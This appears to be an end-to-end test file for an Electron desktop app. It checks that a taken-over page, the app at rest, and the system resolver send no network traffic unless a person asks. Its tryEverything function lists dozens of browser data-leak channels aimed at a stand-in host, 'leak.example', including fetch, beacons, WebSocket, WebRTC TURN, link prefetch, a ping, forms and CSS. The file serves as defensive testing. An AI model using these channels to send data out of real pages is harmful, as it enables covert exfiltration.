// SPDX-License-Identifier: MIT
// A page that has been taken over tries every way out that the web platform has; the app at rest; and the one query
// that a person asks for.

import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { launchApp } from '../e2e/support/app';
import type { RunningApp } from '../e2e/support/app';
import { Outside, outside } from './outside';

let out: Outside;
let app: RunningApp;

beforeEach(async () => {
  out = await Outside.open();
  app = await launchApp({ switches: ['--demo'], answersMain: false });
});
afterEach(async () => {
  await app.close();
  out.close();
});

/** Runs in the page. Every way is tried by name and by address; whatever it throws is one that is closed. */
async function tryEverything(address: string): Promise<readonly string[]> {
  const tried: string[] = [];
  const pending: Promise<unknown>[] = [];
  const attempt = (name: string, work: () => unknown) => {
    tried.push(name);
    try {
      const result = work();
      if (result instanceof Promise) pending.push(result.catch(() => undefined));
    } catch {
      // Closed.
    }
  };
  const frame = (attributes: Record<string, string>, tag: string) => {
    const element = Object.assign(document.createElement(tag), attributes);
    document.body.append(element);
    return element;
  };
  for (const host of ['leak.example', address]) {
    const url = `https://${host}/x`;
    attempt('fetch', () => fetch(url, { mode: 'no-cors' }));
    attempt('XMLHttpRequest', () => {
      const request = new XMLHttpRequest();
      request.open('GET', url);
      request.send();
    });
    attempt('sendBeacon', () => navigator.sendBeacon(url, 'x'));
    attempt('WebSocket', () => new WebSocket(`wss://${host}/`));
    attempt('EventSource', () => new EventSource(url));
    attempt('WebTransport', () => new WebTransport(url).ready);
    attempt('Image', () => Object.assign(new Image(), { src: url }));
    attempt('Audio', () => new Audio(url).play());
    attempt('FontFace', () => new FontFace('leak', `url(${url})`).load());
    attempt('Worker', () => new Worker(url));
    attempt('ServiceWorker', () => navigator.serviceWorker.register(url));
    attempt('import', () => import(url));
    attempt('open', () => window.open(url));
    attempt('iframe', () => frame({ src: url }, 'iframe'));
    attempt('object', () => frame({ data: url }, 'object'));
    for (const rel of [
      'dns-prefetch',
      'preconnect',
      'prefetch',
      'preload',
      'modulepreload',
      'stylesheet',
      'icon',
      'manifest',
      'prerender',
    ]) {
      attempt(rel, () => frame({ rel, href: url, as: 'image' }, 'link'));
    }
    attempt('ping', () => {
      frame({ href: '#', ping: url }, 'a').click();
    });
    attempt('form', () => {
      const form = frame({ action: url, method: 'post' }, 'form');
      if (form instanceof HTMLFormElement) form.submit();
    });
    attempt('style', () =>
      new CSSStyleSheet().replace(`@import url(${url}); body { background: url(${url}) }`),
    );
    attempt('attribute', () => {
      document.body.style.backgroundImage = `url(${url})`;
    });
    attempt('WebRTC', () => {
      const connection = new RTCPeerConnection({
        iceServers: [
          { urls: `stun:${host}:3478` },
          { urls: `turn:${host}:3478?transport=udp`, username: 'x', credential: 'x' },
          { urls: `turn:${host}:3478?transport=tcp`, username: 'x', credential: 'x' },
          { urls: `turns:${host}:443?transport=tcp`, username: 'x', credential: 'x' },
        ],
      });
      connection.createDataChannel('x');
      const gathered = new Promise((resolve) => {
        connection.onicegatheringstatechange = () => {
          if (connection.iceGatheringState === 'complete') resolve(true);
        };
      });
      return connection
        .createOffer()
        .then((offer) => connection.setLocalDescription(offer))
        .then(() => gathered);
    });
  }
  await Promise.all(pending);
  return tried;
}

it('no packet leaves a page that tries every way out', async () => {
  const tried = await app.window.evaluate(tryEverything, outside);
  expect(tried.length).toBeGreaterThan(50);
  expect(await out.heard()).toEqual([]);
});

it('nor the app itself, from its first start in a fresh profile through its pages to its end', async () => {
  for (const key of ['Control+1', 'Control+2', 'Control+3', 'Control+4']) {
    await app.window.keyboard.press(key);
    await app.window.locator('main h1').first().waitFor();
  }
  await app.window.evaluate(async () => {
    const field = document.createElement('textarea');
    field.spellcheck = true;
    document.body.append(field);
    field.focus();
    await new Promise((resolve) => requestIdleCallback(resolve));
  });
  await app.window.keyboard.type('a sentense with misteaks ');
  expect(await out.heard()).toEqual([]);
});

describe('the system’s resolver', () => {
  /** To whom packets went, and what they asked: "192.0.2.1.53 A? typed.example."; each once. */
  const queries = async (): Promise<readonly string[]> => {
    const query = /> (\S+): \d+\+ (A+\? \S+) \(\d+\)$/;
    const told = (await out.heard()).map((line) => query.exec(line)?.slice(1).join(' ') ?? line);
    return [...new Set(told)].toSorted();
  };

  beforeEach(async () => {
    await out.answerNames();
    await app.close();
    // Opened without a click.
    app = await launchApp({ page: 'internet-traffic', switches: ['--demo'], answersMain: false });
    await app.traffic.typedAddress.waitFor();
  });

  it('is asked for no name by a page alone', async () => {
    await app.electron.evaluate(({ dialog }) => {
      const messages: string[] = [];
      (globalThis as { asked?: readonly string[] }).asked = messages;
      dialog.showMessageBox = (...given: unknown[]) => {
        messages.push((given.at(-1) as { message: string }).message);
        return Promise.resolve({ response: 1, checkboxChecked: false });
      };
    });
    const codes = await app.window.evaluate(async () => {
      const answers: string[] = [];
      for (let time = 0; time < 45; time += 1) {
        const reply = await window.interfacePanel.routes.resolveName(`secret-${time}.example`);
        answers.push(reply.ok ? 'looked up' : reply.error.code);
      }
      return answers;
    });
    expect(new Set(codes)).toEqual(new Set(['declined', 'too-soon']));
    const asked = await app.electron.evaluate(
      () => (globalThis as { asked?: readonly string[] }).asked,
    );
    expect(new Set(asked)).toEqual(new Set(['Look up a name?']));
    expect(await queries()).toEqual([]);
  });

  it('is asked for the name that a person typed once they press Enter, and for nothing else', async () => {
    await app.traffic.typedAddress.click();
    await app.window.keyboard.type('https://typed.example:8443/path');
    // Longer than a pause in typing lasts.
    await app.window.waitForTimeout(1_000);
    expect(await queries()).toEqual([]);
    await app.window.keyboard.press('Enter');
    await app.traffic.unfold(app.traffic.addresses);
    await app.traffic.probe('203.0.113.7').waitFor();
    await app.traffic.probe('2001:db8::7').waitFor();
    expect(await queries()).toEqual([
      '192.0.2.1.53 A? typed.example.',
      '192.0.2.1.53 AAAA? typed.example.',
    ]);
  });

  it('holds up neither the window for long nor its end', async () => {
    await app.traffic.typedAddress.fill('silent.example');
    await app.window.keyboard.press('Enter');
    await app.window
      .getByRole('alert')
      .getByText(/didn’t answer for silent\.example/)
      .waitFor();
    await app.window.keyboard.press('Enter');
    await app.window.getByText('Looking up silent.example…').waitFor();
    const closedAt = performance.now();
    await app.close();
    // The resolver asks again after five seconds, and gives up after five more.
    expect(performance.now() - closedAt).toBeLessThan(4_000);
  });
});
